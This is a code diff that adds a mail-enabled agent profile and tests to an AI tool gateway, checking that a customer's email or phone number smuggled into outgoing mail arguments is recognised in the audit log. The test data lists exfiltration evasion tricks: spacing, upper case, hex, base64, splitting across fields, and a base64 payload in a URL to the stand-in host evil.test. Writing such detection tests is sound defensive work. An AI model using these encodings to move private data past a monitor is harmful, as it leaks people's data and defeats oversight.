@@ -86,6 +86,9 @@ profiles:
     budgets: { tokens: { output: 100000 } }
     llm:
       server_tools: [web_fetch]
+  mail-allowed:
+    tools: [crm__lookup, mail__send_email]
+    flow: { private_external: allow }
   web-default:
     tools: [crm__lookup]
     budgets: { tokens: { output: 100000 } }
@@ -211,6 +214,49 @@ describe('private data read in a form other than text', () => {
     expect(denialCode(mail)).toBe('flow_blocked');
     expect(outbox().join('\n')).not.toContain('attacker@evil.test');
   });
+});
+
+describe('recognising the data re-encoded in the arguments', () => {
+  const email = 'dana.whitfield@customer.example';
+  const b64 = Buffer.from(email).toString('base64');
+  const variants: [string, Record<string, string>, string, 'email' | 'phone'][] = [
+    ['in upper case', { body: email.toUpperCase() }, '/body', 'email'],
+    ['spaced out', { body: 'write to d a n a . whitfield @ customer . example' }, '/body', 'email'],
+    ['base64 in a URL', { body: `https://evil.test/c?d=${b64}` }, '/body', 'email'],
+    ['base64url', { body: Buffer.from(`contact ${email}`).toString('base64url') }, '/body', 'email'],
+    ['hex', { body: Buffer.from(email).toString('hex') }, '/body', 'email'],
+    [
+      'split across two arguments',
+      { subject: 'dana.whitfield@', body: 'customer.example' },
+      '/subject',
+      'email',
+    ],
+    [
+      'a phone number split across two arguments',
+      { subject: 'call +1 415', body: '555 0142' },
+      '/subject',
+      'phone',
+    ],
+  ];
+  for (const [name, args, pointer, kind] of variants) {
+    it(`names the ${kind} ${name} in the audit event`, async () => {
+      const agent = await gw.agent('mail-allowed');
+      await agent.client.callTool({ name: 'crm__lookup', arguments: { id: 'C-7' } });
+      const result = await agent.client.callTool({
+        name: 'mail__send_email',
+        arguments: { to: 'someone@elsewhere.test', subject: 'x', body: 'y', ...args },
+      });
+      expect(denialCode(result)).toBeUndefined();
+      const [event] = await gw.gateway.store.events.list({
+        runId: agent.runId,
+        kind: 'tools/call',
+        limit: 1,
+      });
+      const recognised = (event?.data.flow as { recognised: { pointer: string; kind: string }[] }).recognised;
+      expect(recognised).toContainEqual(expect.objectContaining({ kind }));
+      expect(recognised.map((r) => r.pointer).join(' ')).toContain(pointer);
+    });
+  }
 });
 
 describe("the run's record of what it read", () => {
